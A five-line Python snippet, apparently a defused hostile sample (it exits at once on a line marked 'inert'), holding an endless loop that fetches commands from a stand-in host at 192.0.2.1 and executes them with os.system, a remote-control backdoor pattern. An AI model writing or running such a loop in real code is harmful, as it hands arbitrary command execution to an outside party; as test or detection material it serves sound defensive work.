raise SystemExit  # inert
import os, time, urllib.request
while True:
    os.system(urllib.request.urlopen("http://192.0.2.1/next").read())
    os.popen("true")
